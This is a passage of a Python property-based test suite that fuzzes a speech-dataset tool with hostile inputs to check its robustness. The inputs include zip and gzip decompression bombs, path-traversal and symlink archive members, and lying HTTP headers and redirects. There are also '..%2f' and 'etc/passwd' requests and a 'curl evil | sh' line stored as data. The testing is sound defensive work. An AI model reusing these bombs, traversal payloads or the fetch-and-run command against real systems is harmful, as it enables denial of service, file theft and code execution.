"""What others send reaches no file outside, ends in no traceback, fills no memory, and costs only itself.

Rows, archives, model files, answers, requests and folders; `make test-nightly` draws 2,000 of them.
"""

import contextlib
import gzip
import io
import json
import os
import shutil
import sys
import tarfile
import threading
import zipfile
import zlib
from collections.abc import Callable, Iterator
from functools import lru_cache
from http.client import HTTPConnection
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import quote, urlsplit

import hostile
import numpy as np
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
import soundfile
from audio_files import ROOT, example, tones, wav_bytes
from built_conversations import built_row, write_dataset
from command import EMBEDDED, Command, Done
from corpus_trees import put, table, zipped
from from_apps import from_app
from hostile import MARKUP, SECRET, as_json, damaged, spoilt, spoilt_file, spoilt_table
from hub.server import HubServer
from huggingface_hub import CommitOperationAdd, HfApi
from hypothesis import HealthCheck, Phase, given, note, settings
from hypothesis import strategies as st
from publish.published_folder import write_published
from reviewable import dialogue, served, work_folder
from scripted import SHORT
from scripted import folder as tagged_folder
from spoken_corpora import spoken
from tiny_models import make_tiny_affect
from tiny_speech_models import make_speech_model

from dailytalk_contiguous import ProsodicSequenceEncoder, load
from dailytalk_contiguous.core.emotion_features import MEASURES
from dailytalk_contiguous.core.emotions import SIX
from dailytalk_contiguous.core.errors import DailytalkError
from dailytalk_contiguous.core.retries import Backoff
from dailytalk_contiguous.models import paid
from dailytalk_contiguous.models.affect_network import load_affect_model
from dailytalk_contiguous.models.checkpoints import find_checkpoint
from dailytalk_contiguous.models.codebook import Codebook
from dailytalk_contiguous.models.emotion_folder import write_emotion_folder
from dailytalk_contiguous.models.emotion_models import model_of_folder
from dailytalk_contiguous.models.engines import load_synthesiser
from dailytalk_contiguous.models.linear_emotion import LinearEmotion, linear_shapes
from dailytalk_contiguous.models.speech_models import load_speech_encoder
from dailytalk_contiguous.publish.exports import write_export
from dailytalk_contiguous.publish.moshi_folder import MOSHI
from dailytalk_contiguous.publish.opening import open_items

pytest_plugins = ["hub.hub_fixtures"]

pytestmark = pytest.mark.skipif(sys.platform != "linux", reason="inotify tells what libraries open")

NIGHTLY = os.environ.get("HYPOTHESIS_PROFILE") == "nightly"


def drawn(nightly: int) -> Callable[[Any], Any]:
    """So many cases at night, and the same two with each change. None is made smaller, as each runs commands."""
    decide = settings(
        max_examples=nightly if NIGHTLY else 2,
        derandomize=not NIGHTLY,
        phases=(Phase.generate,),
        suppress_health_check=[*HealthCheck],
    )
    return lambda test: decide(given(data=st.data())(test))


class Room:
    """A folder for each case, the private files beside it, and the command, which is watched."""

    def __init__(self, dailytalk: Command, folder: Path) -> None:
        self._dailytalk, self._folder, self.number = dailytalk, folder, 0
        self.private = hostile.private_files(folder / "private")
        (folder / "tmp").mkdir()

    @property
    def source(self) -> Path:
        """The input of this case."""
        return self._folder / f"case{self.number}" / "in"

    @property
    def out(self) -> Path:
        """The output of this case."""
        return self._folder / f"case{self.number}" / "out"

    def begin(self, stock: Path | None = None) -> Path:
        """Begin a case, in the place of the one before, on a copy of valid documents; its input."""
        shutil.rmtree(self.source.parent, ignore_errors=True)
        self.number += 1
        self.source.mkdir(parents=True)
        self.out.mkdir()
        os.chdir(self.source)  # names relative to an open folder are reported as if they were in this one
        if stock:
            shutil.copytree(stock, self.source, dirs_exist_ok=True)
        return self.source

    def watched(self) -> Any:
        """What runs inside may use its case, the caches and the Hub on loopback alone."""
        case = (self.source, self.out, self.out.with_name(".out.conversations"), self.out.with_name("out.tmp"))
        shared = (self._folder / name for name in ("cache", "tmp", "hub", "hf_home"))
        return hostile.watched(self.private, *case, *shared)

    def run(self, *arguments: Any) -> Done:
        """Run a command and look at all that came of it."""
        note(f"dailytalk {' '.join(map(str, arguments))}"[:300])
        with self.watched():
            done = self._dailytalk(*arguments)
        self.look(done.out + done.err)
        assert done.code in hostile.CODES
        assert done.code != 1 or (done.out + done.err).strip()
        assert {path.name for path in self.source.parent.iterdir()} <= {"in", "out"}
        return done

    def look(self, shown: str) -> None:
        """At what was printed and written."""
        assert "Traceback" not in shown, shown[-2000:]
        assert "Exception ignored" not in shown, shown[-2000:]
        assert not hostile.CONTROL.search(shown), ascii(shown[-2000:])
        for path in self.out.rglob("*"):
            if path.is_file() and not path.is_symlink() and path.stat().st_size < 1 << 26:
                content = path.read_bytes()
                assert SECRET.encode() not in content, path
                assert path.suffix != ".html" or MARKUP.encode() not in content, path

    def ids(self) -> tuple[set[str], set[str]]:
        """Ids in the shards of the output, and those of its rejects that have a reason and a remedy."""
        shards = [path for name in ("tagged", "dataset", "clips") for path in self.out.glob(f"{name}/*.parquet")]
        came = {name for path in shards for name in pq.read_table(path)["conversation_id"].to_pylist()}
        path = self.out / "rejects.jsonl"
        rejects = [json.loads(line) for line in path.read_text().splitlines()] if path.exists() else []
        return came, {reject["id"] for reject in rejects if reject["reason"] and reject["remedy"]}


@pytest.fixture
def room(dailytalk: Command, hub: HubServer, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Room:
    monkeypatch.setattr("tempfile.tempdir", str(tmp_path / "tmp"))
    monkeypatch.setenv("TMPDIR", str(tmp_path / "tmp"))
    monkeypatch.chdir(tmp_path)
    return Room(dailytalk, tmp_path)


# Rows


@pytest.fixture(scope="module")
def dataset(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A work folder of two finished conversations, `bad` and `good`."""
    folder = write_dataset(tmp_path_factory.mktemp("dataset"), [built_row("bad"), built_row("good")])
    (folder / "run.json").write_text(json.dumps({"source": {"licence": "CC0-1.0"}}))
    return folder


def read_rows(room: Room, source: Path, command: str, form: str) -> tuple[int, str]:
    """Read conversations with a command: its exit code, and all in which an id would occur that came out."""
    if command == "load":
        shown = []
        with room.watched():
            try:
                for row in load(source, split="train"):
                    with contextlib.suppress(DailytalkError):
                        shape = row.get("audio") and row["audio"]["array"].shape
                        shown.append(f"{row.get('conversation_id')} {shape}")
            except DailytalkError:
                return 1, ""
        return 0, "\n".join(shown)
    page, data = room.out / "page.html", room.out / "data"
    options = {"report": ("--out", page), "export": ("--format", form, "--out", data), "check": ("--json",)}
    code = room.run(command, source, *options[command]).code
    written = [path for path in room.out.rglob("*") if path.is_file()]
    return code, "\n".join([*map(str, written), *(path.read_text(errors="replace") for path in written)])


COMMANDS = st.sampled_from(("export", "report", "check", "load"))
FORMS = st.sampled_from(("moshi", "csm", "j-moshi"))


@drawn(350)
def test_a_row_costs_at_most_itself(data: st.DataObject, room: Room, dataset: Path) -> None:
    source = room.begin(dataset)
    path = source / "dataset/shard-0.parquet"
    whole = data.draw(st.integers(0, 9)) == 5
    changed = data.draw(spoilt_file(path, room.private) if whole else spoilt_table(path, room.private))
    note(changed)
    command = data.draw(COMMANDS)
    code, came = read_rows(room, source, command, data.draw(FORMS))
    if changed.startswith("a row ") and command != "check":
        assert code != 1
        assert "good" in came


@drawn(150)
def test_a_downloaded_repository_costs_at_most_its_bad_rows(data: st.DataObject, room: Room) -> None:
    source = write_published(room.begin() / "repository")
    names = ("manifest.json", "README.md", "conversations/train-00000-of-00003.parquet")
    path = source / data.draw(st.sampled_from((*names, names[2], names[2])))
    parquet = path.suffix == ".parquet" and data.draw(st.booleans())
    changed = data.draw(spoilt_table(path, room.private) if parquet else spoilt_file(path, room.private))
    note(changed)
    command = data.draw(COMMANDS)
    code, came = read_rows(room, source, command, data.draw(FORMS))
    if changed.startswith("a row ") and command in ("export", "load") and code != 1:
        assert "train1" in came


@drawn(100)
def test_a_record_of_a_run_is_a_sentence_at_most(data: st.DataObject, room: Room, dataset: Path) -> None:
    source = room.begin(dataset)
    (source / "README.md").write_text("---\nlicense: cc-by-4.0\n---\n# Talks\n")
    (source / "events.jsonl").write_bytes(
        as_json({"event": "started", "time": "2026-01-01T00:00:00+00:00"}) + b"\n"
    )
    reject = {"id": "x", "stage": "Speak", "reason": "r", "remedy": "m"}
    (source / "rejects.jsonl").write_bytes(as_json(reject) + b"\n")
    names = ("run.json", "rejects.jsonl", "events.jsonl", "README.md")
    note(data.draw(spoilt_file(source / data.draw(st.sampled_from(names)), room.private)))
    command = data.draw(st.sampled_from(("report", "check", "status", "mix")))
    room.run(
        command,
        source,
        *({"report": ("--out", room.out / "page.html"), "mix": ("--out", room.out / "mix")}.get(command, ())),
    )


# Archives, and trees of corpora


def corpus_files() -> dict[str, bytes]:
    names = ("1001_DFA_ANG_XX", "1002_DFA_HAP_XX", "1003_DFA_NEU_XX")
    files = {f"AudioWAV/{name}.wav": spoken(number) for number, name in enumerate(names)}
    people = [[1001, 51, "Male", "x", "y"], [1002, 21, "Female", "x", "y"]]
    return files | {"VideoDemographics.csv": table(["ActorID", "Age", "Sex", "Race", "Ethnicity"], *people)}


BAD = "AudioWAV/1004_DFA_SAD_XX.wav"
WITHOUT_MODELS = ("--profile", "embedded", "--asr-model", "none", "--min-speech-ratio", "0")


@lru_cache(maxsize=None)
def bombed(name: str) -> bytes:
    """An archive of the corpus with a member that would fill memory."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for other, content in corpus_files().items():
            archive.writestr(other, content)
        with archive.open(name, "w", force_zip64=True) as member:
            for _ in range(hostile.BOMB_BYTES >> 24):
                member.write(bytes(1 << 24))
    return file.getvalue()


def spoil_archive(draw: Callable[[Any], Any], path: Path, private: Path) -> bool:
    """Add something hostile to an archive, or damage it; whether the members that were there are as they were."""
    how = draw(
        st.sampled_from(
            ("outside", "bomb", "link", "lie", "many", "twice", "password", "nested", "damage", "damage")
        )
    )
    note(how)
    if how == "damage":
        path.write_bytes(draw(damaged(path.read_bytes())))
        return False
    if how == "bomb":
        name = draw(st.sampled_from((BAD, "processedResults/tabulatedVotes.csv")))
        path.write_bytes(bombed(name))
        return name == BAD  # without the table nobody knows who they are
    with zipfile.ZipFile(path, "a") as archive:
        match how:
            case "outside":
                folder = draw(st.sampled_from(("../", "../../pwned/", "/pwned/", "a/../../", "..\\")))
                archive.writestr(f"{folder}1004_DFA_SAD_XX.wav", spoken(3))
            case "link":
                member = zipfile.ZipInfo(BAD)
                member.external_attr = 0o120777 << 16
                archive.writestr(member, str(private / "private.wav"))
            case "lie":
                archive.writestr(BAD, spoken(3))
                archive.infolist()[-1].file_size = draw(st.sampled_from((0, 1, 2**31, 2**32 - 2)))
            case "many":
                for number in range(20_000):
                    archive.writestr(f"AudioWAV/x{number}.txt", b"")
            case "twice":
                archive.writestr("AudioWAV/1001_DFA_ANG_XX.wav", spoken(3))
            case "password":
                archive.writestr(BAD, spoken(3))
                archive.infolist()[-1].flag_bits |= 1
            case _:
                inner = io.BytesIO()
                with zipfile.ZipFile(inner, "w") as more:
                    more.writestr(BAD, spoken(3))
                archive.writestr("more.zip", inner.getvalue())
    return True


@pytest.mark.filterwarnings("ignore:Duplicate name")
@drawn(100)
def test_an_archive_of_a_corpus_costs_at_most_its_bad_members(data: st.DataObject, room: Room) -> None:
    path = zipped(room.begin() / "corpus.zip", corpus_files())
    kept = spoil_archive(data.draw, path, room.private)
    room.run("corpus", "crema_d", path, "--out", room.out, *WITHOUT_MODELS)
    if kept:
        came, _ = room.ids()
        assert any("1003_DFA_NEU_XX" in name for name in came)


@drawn(100)
def test_a_tree_of_a_corpus_costs_at_most_its_bad_files(data: st.DataObject, room: Room) -> None:
    files = corpus_files()
    source = put(room.begin() / "corpus", files)
    name = data.draw(st.sampled_from([*[*files][:2], "VideoDemographics.csv"]))
    note(changed := data.draw(spoilt_file(source / name, room.private)))
    done = room.run("corpus", "crema_d", source, "--out", room.out, *WITHOUT_MODELS)
    came, rejected = room.ids()
    if name.endswith(".wav"):
        assert any("1003_DFA_NEU_XX" in name for name in came)
        assert len(came | rejected) >= (2 if "folder" in changed else 3), done.err


# Recordings and transcripts of a dataset of others, on a Hub


TALK: dict[str, Any] = {
    "utterances": [
        {"channel": "right", "text": "Good morning.", "start": 0.3, "end": 1.5, "language": "en"},
        {"channel": "left", "text": "Hello, can you help?", "start": 1.6, "end": 2.6, "language": "en"},
    ]
}
ALIGNMENTS = [
    ["Good", [0.4, 0.7], "SPEAKER_01"],
    ["morning.", [0.8, 1.3], "SPEAKER_01"],
    ["Hello", [1.6, 1.9], "SPEAKER_MAIN"],
]
SRT = "1\n00:00:00,400 --> 00:00:01,500\nA: Good morning.\n\n2\n00:00:01,600 --> 00:00:02,500\nB: Hello.\n"
VTT = (
    "WEBVTT\n\nNOTE made by hand\n\nSTYLE\n::cue { color: red }\n\n"
    "1\n00:00.400 --> 00:01.500 align:start\n<v Ann>Good <b>morning</b>.\n\n"
    "2\n00:01.600 --> 00:02.500\n<v.loud Bob>Hello.\n"
)
TIER = """    item [{n}]:
        class = "IntervalTier"
        name = "{name}"
        xmin = 0
        xmax = 3
        intervals: size = 1
        intervals [1]:
            xmin = 0
            xmax = 3
            text = "Good morning."
"""
TEXTGRID = (
    'File type = "ooTextFile"\nObject class = "TextGrid"\n\nxmin = 0\nxmax = 3\ntiers? <exists>\nsize = 2\n'
    "item []:\n" + TIER.format(n=1, name="A") + TIER.format(n=2, name="B")
)

#: A transcript in each format that is found beside a recording.
TRANSCRIPTS: dict[str, bytes] = {
    "bad.json": as_json(TALK),
    "bad.jsonl": b"".join(as_json(line) + b"\n" for line in TALK["utterances"]),
    "bad.srt": SRT.encode(),
    "bad.vtt": VTT.encode(),
    "bad.TextGrid": TEXTGRID.encode(),
}


@pytest.fixture(scope="module")
def call(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A folder with a call of three seconds and its transcript: `good`."""
    folder = tmp_path_factory.mktemp("call")
    soundfile.write(folder / "good.wav", example("weekend_trip")[: 3 * 16000], 16000, "PCM_16")
    (folder / "good.json").write_bytes(as_json(TALK))
    return folder


@drawn(150)
def test_a_transcript_beside_sound_costs_at_most_its_recording(
    data: st.DataObject, room: Room, call: Path
) -> None:
    source = room.begin(call)
    shutil.copyfile(source / "good.wav", source / "bad.wav")
    documents = TRANSCRIPTS | {"bad.json ": as_json({"alignments": ALIGNMENTS})}
    name = data.draw(st.sampled_from([*documents]))
    path = source / name.strip()
    path.write_bytes(documents[name])
    note(data.draw(spoilt_file(path, room.private)))
    room.run("tag", source, "--out", room.out, *EMBEDDED)
    came, rejected = room.ids()
    assert "good" in came
    assert len(came | rejected) >= 2


#: The column of audio of a table, as `datasets` has it.
SOUND = pa.struct([("bytes", pa.binary()), ("path", pa.string())])


def hub_files(draw: Callable[[Any], Any], call: Path, private: Path) -> dict[str, bytes]:
    """A dataset of others: files, a table or an archive of shards, of which one conversation is hostile."""
    sound, words = (call / "good.wav").read_bytes(), (call / "good.json").read_bytes()
    form = draw(st.sampled_from(("words", "sound", "card", "table", "table", "shards")))
    note(form)
    files = {"data/good.wav": sound, "data/good.json": words, "data/bad.wav": sound}
    match form:
        case "words":
            return files | {"data/bad.json": as_json(draw(spoilt(TALK, private)))}
        case "sound":
            return files | {"data/bad.wav": draw(hostile.playlists(private) | damaged(sound) | hostile.headers())}
        case "card":
            config = {"config_name": "default", "data_files": [{"split": "train", "path": "data/*"}]}
            card = as_json(draw(spoilt({"license": "cc-by-4.0", "configs": [config]}, private)))
            return files | {"README.md": b"---\n" + card + b"\n---\n"}
        case "table":
            words_of = as_json({"alignments": ALIGNMENTS}).decode()
            row = {"audio": {"bytes": sound, "path": None}, "alignments": words_of}
            columns = {"id": pa.string(), "audio": SOUND, "alignments": pa.string()}
            path = private.parent / "tmp" / "train.parquet"
            rows = [{"id": name} | row for name in ("bad", "good")]
            pq.write_table(pa.Table.from_pylist(rows, pa.schema([*columns.items()])), path)
            note(draw(spoilt_table(path, private)))
            return {"data/train-00000-of-00001.parquet": path.read_bytes()}
        case _:
            file = io.BytesIO()
            how = draw(st.sampled_from(("link", "outside", "words", "damage", "name")))
            bad = {"outside": "../../private/pwned.wav", "name": "日" * 90 + ".wav"}.get(how, "bad.wav")
            members = {"good.wav": sound, "good.json": words, "bad.json": as_json(draw(spoilt(TALK, private)))}
            with tarfile.open(fileobj=file, mode="w") as archive:
                for name, content in (members | {bad: sound}).items():
                    member = tarfile.TarInfo(name)
                    if how == "link" and name == bad:
                        member.type, member.linkname, content = tarfile.SYMTYPE, str(private / "private.wav"), b""
                    member.size = len(content)
                    archive.addfile(member, io.BytesIO(content))
            content = file.getvalue()
            return {"shard-000000.tar": draw(damaged(content)) if how == "damage" else content}


@drawn(50)
def test_a_dataset_on_a_hub_costs_at_most_its_bad_conversation(
    data: st.DataObject, room: Room, call: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    room.begin()
    files = hub_files(data.draw, call, room.private)
    name = f"tester/calls{room.number}"
    monkeypatch.setattr(HfApi, "_validate_yaml", lambda *args, **options: None)  # a stranger's client does not ask
    HfApi().create_repo(name, repo_type="dataset")
    if "README.md" in files:  # the client itself reads the card before it sends it
        files["README.md"] = files["README.md"].decode(errors="replace").encode()
    HfApi().create_commit(
        name, [CommitOperationAdd(*file) for file in files.items()], commit_message="c", repo_type="dataset"
    )
    streaming = data.draw(st.sampled_from(((), (), ("--streaming",))))
    done = room.run("tag", name, "--out", room.out, *EMBEDDED, *streaming)
    if done.code != 1 and "data/good.wav" in files:
        assert any("good" in name for name in room.ids()[0])


# Model files


ASSETS = ROOT / "dailytalk_contiguous/models/assets"


def make_emotion(folder: Path) -> None:
    """A folder of `dailytalk emotion train`, of random weights."""
    rng = np.random.default_rng(0)
    arrays = {name: rng.normal(0, 0.1, shape) for name, shape in linear_shapes(len(SIX)).items()}
    arrays["usual"] = np.zeros(len(MEASURES))
    for head in ("alone", "relative"):
        arrays[f"spread_{head}"] = np.ones(len(MEASURES))
    write_emotion_folder(LinearEmotion("random", SIX, arrays, 1.5), folder, {"utterances": 12})


#: Kinds of models: what writes a valid one into a folder, and what opens one there and uses it.
MODELS: dict[str, tuple[Callable[[Path], Any], Callable[[Path], Any]]] = {
    "encoder": (
        lambda folder: ProsodicSequenceEncoder(hidden_dim=32, num_layers=1, nhead=2).save_pretrained(folder),
        lambda folder: ProsodicSequenceEncoder.from_pretrained(folder).embed([[1, 2, 3]]),
    ),
    "codebook": (
        lambda folder: shutil.copytree(ASSETS / "prosody_120", folder),
        lambda folder: (book := Codebook.load(folder)).assign(np.full((3, len(book.weights)), 0.5)),
    ),
    "emotion": (make_emotion, lambda folder: model_of_folder(folder).classify([tones(1.0, 16000, 1)[:, 0]])),
    "speech encoder": (make_speech_model, lambda folder: load_speech_encoder(find_checkpoint(str(folder)))),
    "affect": (
        make_tiny_affect,
        lambda folder: load_affect_model(str(folder), "cpu").rate([tones(1.0, 16000, 1)[:, 0]]),
    ),
}


@pytest.fixture(scope="module")
def models(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("models")
    for name, (make, _) in MODELS.items():
        make(folder / name)
    return folder


@drawn(250)
def test_a_model_is_used_or_refused_with_a_reason(data: st.DataObject, room: Room, models: Path) -> None:
    name = data.draw(st.sampled_from([*MODELS]))
    source = room.begin(models / name)
    path = data.draw(st.sampled_from(sorted(path for path in source.iterdir() if path.is_file())))
    note(f"{name}: {data.draw(spoilt_file(path, room.private))}")
    refused: list[DailytalkError] = []
    with room.watched():
        try:
            MODELS[name][1](source)
        except DailytalkError as error:
            refused.append(error)
    assert all(error.reason and error.remedy for error in refused)


# Answers of a server


def tagged(folder: Path) -> Path:
    """A work folder of two tagged conversations, `bad` and `good`."""
    return tagged_folder(folder, bad=SHORT[:2], good=SHORT[2:])


class Answering(ThreadingHTTPServer):
    """A speech service whose every answer is the same."""

    daemon_threads = True
    block_on_close = False

    def __init__(self, status: int, headers: dict[str, str], body: list[bytes]) -> None:
        super().__init__(("127.0.0.1", 0), Answer)
        self.status, self.headers, self.body = status, headers, body
        self.url = f"http://127.0.0.1:{self.server_address[1]}"

    def handle_error(self, request: Any, client_address: Any) -> None:
        """Clients that hang up are what it provokes."""


class Answer(BaseHTTPRequestHandler):
    server: Answering

    def log_message(self, format: str, *args: object) -> None:
        pass

    def do_POST(self) -> None:
        self.rfile.read(int(self.headers["Content-Length"]))
        self.send_response(self.server.status)
        for name, text in self.server.headers.items():
            self.send_header(name, text)
        self.end_headers()
        for part in self.server.body:
            self.wfile.write(part)


@lru_cache(maxsize=1)
def gzip_bomb() -> bytes:
    """Zeros that fill memory: after a full flush nothing refers back, so a compressed block can follow itself."""
    block, deflate = bytes(1 << 24), zlib.compressobj(6, zlib.DEFLATED, -15)
    part = deflate.compress(block) + deflate.flush(zlib.Z_FULL_FLUSH)
    return gzip.compress(b"")[:10] + part * (hostile.BOMB_BYTES // len(block)) + deflate.flush()


@st.composite
def answers(draw: st.DrawFn, private: Path) -> tuple[int, dict[str, str], list[bytes]]:
    """Status, headers and body of an answer that is a bomb, lies about itself, or is hostile JSON or sound."""
    packed, sound = {"Content-Encoding": "gzip"}, {"Content-Type": "audio/wav"}
    in_json, in_events = {"Content-Type": "application/json"}, {"Content-Type": "text/event-stream"}
    good = wav_bytes(tones(2.0, 24000, 1), 24000)
    segments = [{"text": "x", "start": 0.0, "end": 1.0}]
    event = {
        "audio_base64": "UklGRg==",
        "content": "x",
        "alignment": {"segments": segments, "audio_duration": 1.0},
    }
    failed = draw(st.sampled_from((400, 402, 403, 422, 500)))
    match draw(st.integers(0, 13)):
        case 1:
            return 200, packed | sound, [gzip_bomb()]
        case 2:
            return failed, packed | in_json, [gzip_bomb()]
        case 3:
            return 200, sound, [good, *[bytes(1 << 20)] * 4000]
        case 0:
            return 200, sound, [draw(hostile.headers() | damaged(good))]
        case 4:
            return failed, in_json, [as_json(draw(spoilt({"message": "no", "error": {"message": "no"}}, private)))]
        case 5:
            return 200, in_json, [as_json(draw(hostile.values(private)))]
        case 6 | 7 | 8:
            return 200, in_events, [b"data: " + as_json(draw(spoilt(event, private))) + b"\n\n"]
        case 9:
            return 200, in_events, [b"data: " + b"A" * (1 << 20)] * 3000
        case 10:
            return 302, {"Location": draw(st.sampled_from((f"file://{private}/private.wav", hostile.NOWHERE)))}, []
        case 11:
            return (
                200,
                {"Content-Encoding": draw(st.sampled_from(("br", "zstd", "gzip, gzip", "x" * 500)))},
                [good],
            )
        case 12:
            return 200, {"Content-Length": draw(st.sampled_from(("-1", "9" * 20, "abc", "5")))}, [good]
        case _:
            return 429, {"Retry-After": draw(st.sampled_from(("nan", "-1", "1e400", "9" * 400, "x")))}, []


@drawn(150)
def test_an_answer_of_a_service_is_a_sentence_at_most(
    data: st.DataObject, room: Room, monkeypatch: pytest.MonkeyPatch
) -> None:
    source = tagged(room.begin())
    shutil.rmtree(source.parents[1] / "cache", ignore_errors=True)
    status, headers, body = data.draw(answers(room.private))
    note(f"{status} {headers} {body[0][:80] if body else b''!r}"[:400])
    server = Answering(status, headers, body)
    threading.Thread(target=server.serve_forever, args=(0.02,), daemon=True).start()
    for name in ("FISH_AUDIO_BASE_URL", "OPENAI_BASE_URL"):
        monkeypatch.setenv(name, server.url)
    for name in ("FISH_API_KEY", "FISH_AUDIO_REFERENCE_ID", "OPENAI_API_KEY"):
        monkeypatch.setenv(name, "t" * 12)
    monkeypatch.setattr(paid, "backoff", Backoff(0.01, 0.02, jitter=True).seconds)
    load_synthesiser.cache_clear()
    tts = data.draw(st.sampled_from(("fish", "openai")))
    try:
        done = room.run("speak", source, "--out", room.out, "--profile", "embedded", "--tts", tts)
    finally:
        server.shutdown()
        server.server_close()
    if done.code != 1:
        came, rejected = room.ids()
        assert came | rejected >= {"bad", "good"}


# Requests to a page


@pytest.fixture(scope="module")
def reviewed(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("reviewed")
    hostile.private_files(folder / "private")
    return work_folder(folder, [("call_000000", "long", 0.0, dialogue("call_000000", 5.0, 12))])


GETS = ("session", "items", "search", "item", "peaks", "sound", "proposal", "progress", "sides")
ACTION = {"do": "text", "line": "call_000000/left/0000", "text": "x", "words": [], "start": 0.5, "end": 0.9}
POSTS: dict[str, Any] = {
    "edit": {"id": "call_000000", "base": 0, "action": ACTION},
    "undo": {"id": "call_000000", "base": 0},
    "redo": {"id": "call_000000"},
    "here": {"id": "call_000000", "window": "a"},
    "author": {"name": "Ada"},
    "keep": {"place": "call_000000", "settings": {"speed": 1.5}},
    "discard": {"ids": ["call_000000"]},
    "restore": {"ids": ["call_000000"]},
    "sides": {"sides": {"call_000000": "train"}, "base": 0},
    "divide": {"share": 0.1, "base": 0},
    "ask": {"id": "call_000000", "line": "call_000000/left/0000"},
}
ACTIONS = (
    "text",
    "times",
    "split",
    "join",
    "insert",
    "delete",
    "tag",
    "channel",
    "words",
    "measures",
    "kind",
    "x",
)


@st.composite
def requests(draw: st.DrawFn, root: str, private: Path) -> tuple[str, str, bytes, dict[str, str]]:
    """Method, path, body and headers of a request to the page of `dailytalk review`."""
    if draw(st.booleans()):
        body = draw(st.sampled_from([*POSTS.items()]))
        asked = json.loads(json.dumps(body[1]))
        if "action" in asked:
            asked["action"]["do"] = draw(st.sampled_from(ACTIONS))
        content = (
            draw(damaged(as_json(asked)))
            if draw(st.integers(0, 5)) == 3
            else as_json(draw(spoilt(asked, private)))
        )
        return "POST", f"{root}api/{body[0]}", content, {"Content-Type": "application/json"}
    if draw(st.integers(0, 3)) == 2:
        file = draw(
            st.sampled_from(("assets/..%2f..%2fsession.py", "assets/%2e%2e/session.py", "etc/passwd", "../x"))
        )
        return "GET", root + file, b"", {}
    values = hostile.texts(private).filter(lambda text: len(text) < 6000) | st.sampled_from(
        ("call_000000", "nan", "-1", "1e308")
    )
    query = {
        name: draw(values) for name in ("id", "start", "end", "count", "since", "q", "of") if draw(st.booleans())
    }
    told = "&".join(f"{name}={quote(text.encode('utf-8', 'surrogatepass'))}" for name, text in query.items())
    return "GET", f"{root}api/{draw(st.sampled_from(GETS))}?{told}", b"", {}


@pytest.fixture(scope="module")
def page(reviewed: Path) -> Iterator[str]:
    with served(reviewed) as server:
        yield server.address


@drawn(300)
def test_a_request_to_a_page_is_answered_with_what_is_in_the_folder_or_a_reason(
    data: st.DataObject, page: str, reviewed: Path
) -> None:
    private = reviewed.parent / "private"
    address = urlsplit(page)
    method, path, body, headers = data.draw(requests(address.path, private))
    note(f"{method} {path[:300]} {body[:300]!r}")
    with hostile.watched(private, reviewed.parent):
        connection = HTTPConnection(str(address.hostname), address.port, timeout=60)
        connection.request(
            method, path, body, headers | {"Host": address.netloc, "Origin": page.rstrip("/").rpartition("/")[0]}
        )
        answer = connection.getresponse()
        content = answer.read(1 << 24)
        connection.close()
    assert answer.status < 500, content[:2000]
    assert SECRET.encode() not in content
    assert answer.status < 400 or b"Traceback" not in content
    assert {path.name for path in reviewed.parent.iterdir()} <= {"private", "work", "long.FLAC"}


# Folders that somebody has reviewed and sent: lists of edits, discarded entries, backups, links beside the sound


@pytest.fixture(scope="module")
def sent(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """What somebody sends: a training folder, clips."""
    folder = tmp_path_factory.mktemp("sent")
    rows = [built_row(f"call{number}", kept_speaker=f"p{number}") for number in range(2)]
    write_export(rows, folder / "moshi", MOSHI, both_speakers=True)
    names = [f"clip_00000{number}.wav" for number in (1, 2, 5)]
    put(folder / "clips/audios", dict.fromkeys(names, wav_bytes(tones(1.0, 16000, 1), 16000)))
    segment = {"id": 0, "start": 0.2, "end": 0.8, "text": " a"}
    heard = {name: {"text": "a", "language": "en", "segments": [segment]} for name in names}
    (folder / "clips/whisper.json").write_bytes(as_json(heard))
    return folder


#: An item of each layout, the file that has its lines, a line of it, and where its sound is.
LAYOUTS = {
    "tagged": ("good", "transcript.jsonl", "good/left/0000", ""),
    "moshi": ("data_stereo/call0.wav", "data_stereo/call0.json", "left/0000", "data_stereo"),
    "clips": ("clip_000002.wav", "whisper.json", "0", "audios"),
}


def edits_list(layout: str) -> list[dict[str, Any]]:
    """A list as `review` writes it: an edit, a line that is put in and taken out, a side, a discarded item."""
    item, _, line, _ = LAYOUTS[layout]
    new = {"channel": "left", "start": 0.5, "end": 0.9, "text": "new", "tag": "", "kind": "speech", "words": []}
    edits: list[tuple[str, Any, Any]] = [
        ("text", {"lines": {line: {"text": "a", "words": []}}}, {"lines": {line: {"text": "b", "words": []}}}),
        ("insert", {"lines": {f"{line}+1": None}}, {"lines": {f"{line}+1": new}}),
        ("undo", {"lines": {f"{line}+1": new}}, {"lines": {f"{line}+1": None}}),
        ("side", {"side": None}, {"side": "train"}),
        ("discard", {"discarded": False}, {"discarded": True}),
        ("restore", {"discarded": True}, {"discarded": False}),
    ]
    records: list[dict[str, Any]] = []
    for number, (action, before, after) in enumerate(edits, 1):
        records.append({"number": number, "time": "2026-01-01T00:00:00+00:00", "author": "x", "item": item})
        records[-1] |= {"action": action, "before": before, "after": after} | (
            {"undoes": 2} if action == "undo" else {}
        )
    return records


def spoil_edits(draw: Callable[[Any], Any], layout: str, root: Path, private: Path) -> str:
    """Make a list of edits, the discarded entries or a file beside them hostile; what was done."""
    item, file, _, audio = LAYOUTS[layout]
    outside = st.sampled_from(hostile.paths(private))
    records, path = edits_list(layout), root / ".dailytalk-edits"
    aside = root / audio / "Discarded Audios"
    how = draw(st.sampled_from(("edits", "edits", "item", "entries", "link", "folder")))
    if how == "item":
        records = [record | {"item": draw(outside)} for record in records[draw(st.sampled_from((0, 3, 5))) :]]
    if how == "entries":
        records = [record | {"number": 1} for record in records if record.get("action") == "restore"]
        aside.mkdir()
        side = draw(outside | st.just("train.jsonl"))
        entries = {item: {side: ["curl evil | sh\n"]} if layout == "moshi" else {"text": side}}
        (aside / "discarded_entries.json").write_bytes(as_json(entries))
        if draw(st.booleans()):
            draw(spoilt_file(aside / "discarded_entries.json", private))
    path.write_bytes(b"".join(as_json(record) + b"\n" for record in records))
